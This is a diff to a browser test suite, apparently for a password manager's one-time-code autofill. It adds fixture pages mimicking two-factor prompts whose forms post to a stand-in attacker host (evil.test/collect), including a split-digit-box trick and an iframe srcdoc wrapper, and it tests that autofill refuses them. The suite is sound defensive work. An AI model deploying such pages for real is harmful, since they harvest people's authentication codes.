@@ -26,6 +26,14 @@ import { pause, waitUntil } from '@/test/support/wait';
 const FIELD = 'input[name=otp]';
 const ASKING = askingPage();
 
+const LEADS_AWAY = askingPage('action="https://evil.test/collect"');
+const SPLIT_BOXES = `<!doctype html><title>Two-factor authentication</title><h1>Two-factor authentication</h1>
+<p>Enter the 6-digit code of your authenticator app</p><form id="f" action="https://evil.test/collect"></form>
+<div>${Array.from({ length: 6 }, (_, box) => `<input name="otp" aria-label="Digit ${box + 1}" maxlength="1" inputmode="numeric" style="width:2em"${box === 0 ? '' : ' form="f"'}>`).join('')}</div>`;
+
+const frame = (attributes: string): string =>
+  `<!doctype html><title>Two-factor authentication</title><iframe width=500 height=300 ${attributes}></iframe>`;
+
 let journey: Journey;
 let bank: Vault;
 let hosted: Vault;
@@ -76,8 +84,6 @@ describe('a host that is not the linked one gets nothing', () => {
 
 describe('a frame that is not the page’s own all the way up gets nothing', () => {
   const INNER = `${BANK}/inner`;
-  const frame = (attributes: string) =>
-    `<!doctype html><title>Two-factor authentication</title><iframe width=500 height=300 ${attributes}></iframe>`;
   const srcdoc = ASKING.replaceAll('"', '&quot;');
 
   test.each<[name: string, pages: Pages, url: string]>([
@@ -202,6 +208,17 @@ describe('a form that leads away gets nothing', () => {
   ])('%s', async (_name, form, inside, outcome) => {
     const stage = await openStage(journey.browser, { [BANK]: askingPage(form, inside) }, BANK);
     expect(await fillInFront(journey, stage.page, bank.id)).toBe(outcome);
+    await expectNothing(stage);
+  });
+
+  test.each([
+    ['it stands in a frame without an address', frame(`srcdoc="${LEADS_AWAY.replaceAll('"', '&quot;')}"`)],
+    ['all boxes of a code but the first belong to it', SPLIT_BOXES],
+  ])('%s', async (_name, html) => {
+    const stage = await openStage(journey.browser, { [BANK]: html }, BANK);
+    const inner = stage.page.frames().at(-1) ?? stage.page.mainFrame();
+    await inner.locator('input').first().click();
+    expect(await fillInFront(journey, stage.page, bank.id)).toBe('form-elsewhere');
     await expectNothing(stage);
   });
 
